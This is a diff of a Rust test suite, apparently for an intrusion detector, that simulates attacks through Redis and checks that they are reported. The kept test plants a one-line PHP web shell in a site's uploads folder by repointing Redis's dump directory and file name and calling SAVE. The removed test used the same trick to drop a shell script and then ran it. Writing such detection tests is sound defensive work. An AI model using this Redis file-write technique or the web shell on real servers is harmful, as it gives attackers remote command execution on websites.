@@ -308,38 +308,19 @@ fn redis() -> Vec<Story> {
         let shared = shared.clone();
         Story::new(name, move |scene| run(scene, shared.get()?))
     };
-    vec![
-        story("redis: SAVE of a page", |scene, redis| {
-            let file = scene.site.docroot().join("uploads/saved.php");
-            let told = [Told::of(CODE, "redis").file(file.clone())];
-            told::expect(scene, "SAVE", &told, || {
-                let folder = file.parent().expect("a folder").display().to_string();
-                redis.ask(&["SET", "x", "<?php system($_GET[0]);"]);
-                redis.ask(&["CONFIG", "SET", "dir", &folder, "dbfilename", "saved.php"]);
-                assert_eq!(redis.ask(&["SAVE"]).trim(), "OK");
-                assert!(file.is_file());
-                let data = redis.dir.join("data").display().to_string();
-                redis.ask(&["CONFIG", "SET", "dir", &data, "dbfilename", "dump.rdb"]);
-            });
-            std::fs::remove_file(file).expect("what was written");
-            Ok(())
-        }),
-        story(
-            "redis: SAVE of a script that a shell is given",
-            |scene, redis| {
-                // What redis saves is run by whoever finds a shell script in it.
-                let file = redis.dir.join("data/job.sh");
-                let told = [Told::of(DROPPED, "redis")];
-                told::expect(scene, "a script", &told, || {
-                    redis.ask(&["SET", "y", "\n\necho ran\nexit 0\n"]);
-                    redis.ask(&["CONFIG", "SET", "dbfilename", "job.sh"]);
-                    assert_eq!(redis.ask(&["SAVE"]).trim(), "OK");
-                    let output = Command::new("/bin/sh").arg(&file).output().expect("sh");
-                    assert!(output.stdout.ends_with(b"ran\n"), "{output:?}");
-                    redis.ask(&["CONFIG", "SET", "dbfilename", "dump.rdb"]);
-                });
-                Ok(())
-            },
-        ),
-    ]
+    vec![story("redis: SAVE of a page", |scene, redis| {
+        let file = scene.site.docroot().join("uploads/saved.php");
+        let told = [Told::of(CODE, "redis").file(file.clone())];
+        told::expect(scene, "SAVE", &told, || {
+            let folder = file.parent().expect("a folder").display().to_string();
+            redis.ask(&["SET", "x", "<?php system($_GET[0]);"]);
+            redis.ask(&["CONFIG", "SET", "dir", &folder, "dbfilename", "saved.php"]);
+            assert_eq!(redis.ask(&["SAVE"]).trim(), "OK");
+            assert!(file.is_file());
+            let data = redis.dir.join("data").display().to_string();
+            redis.ask(&["CONFIG", "SET", "dir", &data, "dbfilename", "dump.rdb"]);
+        });
+        std::fs::remove_file(file).expect("what was written");
+        Ok(())
+    })]
 }
